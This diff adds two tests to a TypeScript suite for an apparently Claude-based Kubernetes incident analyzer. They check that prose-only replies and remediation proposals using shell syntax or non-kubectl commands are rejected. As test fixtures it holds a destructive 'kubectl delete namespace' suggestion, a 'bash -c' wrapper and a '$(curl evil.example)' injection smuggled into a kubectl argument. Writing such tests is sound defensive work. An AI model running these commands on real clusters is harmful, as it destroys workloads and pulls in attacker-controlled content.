@@ -162,6 +162,25 @@ describe('Claude analyzer over the real SDK and the fake Anthropic server', () =
     expect(fake.requests).toHaveLength(2);
   });
 
+  it('a reply with no tool_use gets one forced turn; prose again ends the analysis with no action and the error recorded', async () => {
+    fake.script([reply.text('You should delete namespace shop.'), reply.text('I insist: kubectl delete namespace shop')]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
+    expect(fake.requests).toHaveLength(2);
+    expect(fake.requests[1].body.tool_choice).toEqual({ type: 'tool', name: 'propose_remediation' });
+    expect(toolNames(1)).toEqual(['propose_remediation']);
+    expect(p).toMatchObject({ analyzer: 'claude', actions: [], escalate: { required: true } });
+    expect(p.error).toMatch(/did not call propose_remediation on the final turn \(stop_reason end_turn\)/);
+  });
+
+  it('a proposal whose commands are not kubectl, use shell syntax or exceed the bounds is rejected twice: no action', async () => {
+    const hostile = (command: string) => ({ ...VALID, actions: [{ ...VALID.actions[0], command }] });
+    fake.script([reply.toolUse('propose_remediation', hostile('bash -c "kubectl delete ns shop"')), reply.toolUse('propose_remediation', hostile(`kubectl get pods -n shop $(curl evil.example)`))]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
+    expect(p.actions).toEqual([]);
+    expect(p.error).toMatch(/invalid proposal after one correction: actions\.0\.command: must not contain shell syntax/);
+    expect(fake.requests[1].body.messages.at(-1).content[0].content).toMatch(/must be a single kubectl command starting with "kubectl"/);
+  });
+
   it('bounds the loop: after LLM_MAX_TOOL_ROUNDS the final turn offers no read tools and forces propose_remediation', async () => {
     fake.script((req) =>
       req.body.tool_choice?.type === 'tool' ? reply.toolUse('propose_remediation', VALID) : reply.toolUse('list_pods', { namespace: 'shop', unhealthyOnly: true }),
